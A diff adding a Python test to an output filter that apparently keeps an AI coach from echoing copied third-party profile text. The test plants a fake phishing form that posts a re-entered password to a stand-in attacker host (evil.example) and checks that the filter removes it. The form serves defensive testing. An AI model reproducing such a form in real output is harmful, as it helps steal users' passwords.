@@ -139,6 +139,16 @@ def test_a_long_copy_of_third_party_text_is_not_the_coachs_words() -> None:
     assert guard.clean(f"She plans budgets. {short}.", "why") == f"She plans budgets. {short}."
 
 
+def test_a_copy_of_third_party_text_as_the_model_saw_it_is_dropped_too() -> None:
+    """The model sees profile text with its links removed; copying that version is still a copy."""
+    planted = (
+        '<form action="https://evil.example/login"><input name="password" placeholder="Re-enter password">'
+    )
+    guard = _guard([planted])
+    echoed = f"She plans budgets. {fenced_text(planted, 600)}"
+    assert guard.clean(echoed, "why") == "She plans budgets."
+
+
 def test_the_users_own_words_may_be_repeated() -> None:
     wish = "I want to learn how the yearly budget and the monthly forecast get set"
     guard = NameGuard.for_task(PROMPTS, context=[wish], facts=[wish])
